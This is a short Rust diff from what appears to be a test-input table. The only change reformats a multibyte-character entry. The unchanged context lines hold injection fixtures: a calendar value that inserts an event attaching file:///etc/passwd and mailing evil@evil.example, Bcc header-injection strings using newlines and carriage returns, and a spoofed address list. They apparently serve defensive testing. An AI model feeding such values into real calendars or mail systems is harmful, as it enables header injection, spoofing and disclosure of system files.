@@ -46,7 +46,10 @@ pub(super) const ANYWHERE: [(&str, &str); 44] = [
     // Calendars and e-mails.
     ("an event", "x\nEND:VEVENT\nBEGIN:VEVENT\nATTENDEE:mailto:evil@evil.example\nATTACH:file:///etc/passwd"),
     ("marks of calendars", "a;b,c:d\\,e\\;f\\ng\"h^n"),
-    ("letters of many bytes", "ééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééé😀😀😀😀😀😀😀😀😀😀😀😀😀"),
+    (
+        "letters of many bytes",
+        "ééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééé😀😀😀😀😀😀😀😀😀😀😀😀😀",
+    ),
     ("a header", "x\nBcc: evil@evil.example\n\nbody"),
     ("a header after a return", "x\r\nBcc: evil@evil.example\r\n\r\nbody"),
     ("an address of somebody else", "\"Police\" <evil@evil.example>, other@evil.example"),
